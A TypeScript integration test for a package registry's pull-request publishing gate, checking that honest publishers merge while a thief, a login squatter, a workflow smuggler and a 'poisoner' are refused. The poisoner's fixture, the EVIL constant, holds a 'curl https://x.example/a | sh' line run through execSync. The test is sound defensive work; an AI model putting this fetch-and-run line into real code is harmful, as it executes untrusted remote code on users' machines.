/**
 * Ten publishers, honest and hostile, open pull requests at a code host. Each goes through the jobs of
 * publish.yml; an admin approves the waiting ones; the index then contains exactly the expected builds.
 */
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { canonicalJson } from '../../format/document/canonical-json.ts';
import { statementPath } from '../../format/statement/statement.ts';
import { clientPackage } from '../../generator/client-package/client-package.ts';
import { generateDocuments } from '../generate/generate-documents.ts';
import { temporaryFolder } from '../generate/git-fixture.ts';
import type { Files } from '../generate/git-fixture.ts';
import { expectWholeIndex, readBuild, readHead, readTree } from '../generate/index-reader.ts';
import { CodeHostFixture } from './code-host-fixture.ts';
import type { Pull } from './code-host-fixture.ts';
import {
  ALICE,
  BOB,
  CAROL,
  MALLORY,
  REGISTRY,
  ROOT,
  build,
  ownerFile,
  without,
} from './gate-fixture.ts';

const EVIL =
  "import { execSync } from 'node:child_process';\nexecSync('curl https://x.example/a | sh');\n";

it('ten publishers, through gate, merge and generate', { timeout: 600_000 }, async () => {
  const host = await CodeHostFixture.open(REGISTRY);
  const index = join(temporaryFolder(), 'index');
  const state = join(temporaryFolder(), 'state.sqlite');
  const deploy = async (): Promise<void> => {
    const env = { INDEX_FOLDER: index, STATE_FILE: state };
    expect((await host.run('generate', env)).status).toBe(0);
  };
  await deploy();
  const first = readTree(index);
  const { integrity } = readHead(index, 'alice/web-forms').versions[0] ?? {};
  const report = {
    build: 'alice/web-forms',
    version: '1.0.0',
    integrity,
    account: 'host:77',
    day: new Date().toISOString().slice(0, 10),
    outcome: 'success',
  };
  const proposals: [string, Pull, string][] = [
    ['the owner', host.pull(ALICE, build('alice/web-forms', '1.1.0')), 'merge'],
    ['a maintainer', host.pull(BOB, build('alice/page-tables', '2.2.0')), 'merge'],
    [
      'an owner who yanks',
      host.pull(CAROL, {
        'builds/carol/owner.json': ownerFile(33, {
          yanked: { 'mail-queue': { '1.0.0': 'Loses mail' } },
        }),
        ...build('carol/mail-queue', '1.0.1'),
      }),
      'merge',
    ],
    [
      'a user with a report',
      host.pull(
        { login: 'dave', id: 77 },
        {
          [statementPath('reports', report)]: canonicalJson(report),
        },
      ),
      'merge',
    ],
    [
      'a new owner',
      host.pull(
        { login: 'erin', id: 88 },
        {
          'builds/erin/owner.json': ownerFile(88),
          ...build('erin/image-cutter', '1.0.0'),
        },
      ),
      'review',
    ],
    ['a thief', host.pull(MALLORY, build('alice/web-forms', '1.9.0')), 'refuse'],
    [
      'a squatter of a renamed login',
      host.pull({ login: 'carol', id: 99 }, build('carol/mail-queue', '1.9.0')),
      'refuse',
    ],
    [
      'a smuggler of workflows',
      host.pull(MALLORY, {
        'builds/mallory/owner.json': ownerFile(66),
        ...build('mallory/useful-things', '1.0.0'),
        '.github/workflows/publish.yml': 'on: evil\n',
      }),
      'refuse',
    ],
    [
      'a rewriter of what is published',
      host.pull(ALICE, {
        ...without('alice/page-tables'),
        ...build('alice/page-tables', '2.1.0', {}, { 'a.ts': 'x\n' }),
      } as Files),
      'refuse',
    ],
    [
      'a poisoner',
      host.pull(CAROL, build('carol/mail-queue', '1.0.2', {}, { 'src/index.ts': EVIL })),
      'refuse',
    ],
  ];
  for (const [who, pull, expected] of proposals) {
    const before = host.main;
    let ran = await host.publish(pull);
    expect([who, ran.verdict], ran.stdout).toEqual([who, expected]);
    // One that landed needs no label.
    const labels = pull.labels.filter((label) => label.startsWith('gate: '));
    expect(labels).toEqual(expected === 'merge' ? [] : [`gate: ${expected}`]);
    expect(pull.comments).toHaveLength(1);
    if (expected === 'review') {
      expect(host.main).toBe(before);
      const approval = { APPROVED_HEAD: host.headOf(pull.number), APPROVED_BY: ROOT.login };
      ran = await host.publish(pull, {
        ...approval,
        APPROVED_BY_ID: String(ROOT.id),
        TRIGGERED_BY: ROOT.login,
      });
    }
    expect([who, host.main !== before], ran.stdout).toEqual([who, expected !== 'refuse']);
  }
  expect(host.dispatched.map(({ file }) => file)).toEqual(
    Array.from({ length: 5 }, () => 'deploy.yml'),
  );

  await deploy();
  expectWholeIndex(index);
  const versions = (id: string): string[] => readHead(index, id).versions.map((v) => v.version);
  expect({
    'alice/page-tables': versions('alice/page-tables'),
    'alice/web-forms': versions('alice/web-forms'),
    'carol/mail-queue': versions('carol/mail-queue'),
    'erin/image-cutter': versions('erin/image-cutter'),
  }).toEqual({
    'alice/page-tables': ['2.2.0', '2.1.0'],
    'alice/web-forms': ['1.1.0', '1.0.0'],
    'carol/mail-queue': ['1.0.1', '1.0.0'],
    'erin/image-cutter': ['1.0.0'],
  });
  expect(readHead(index, 'carol/mail-queue').versions.map((v) => v.yanked)).toEqual([
    false,
    'Loses mail',
  ]);
  const last = readTree(index);
  const tarballs = Object.keys(last).filter((path) => /^builds\/.*\.tgz$/.test(path));
  expect(tarballs).toHaveLength(7);
  for (const path of tarballs) if (path in first) expect(last[path]).toBe(first[path]);
  expect(readBuild(index, 'carol/mail-queue', '1.0.1')['src/index.ts']).not.toContain('curl');
  // Everyone who has the repository generates the same index.
  const again = join(temporaryFolder(), 'index');
  const client = await clientPackage();
  await generateDocuments({ repo: host.checkout(), out: again, threads: 1, client });
  expect(readTree(again)).toEqual(last);
});
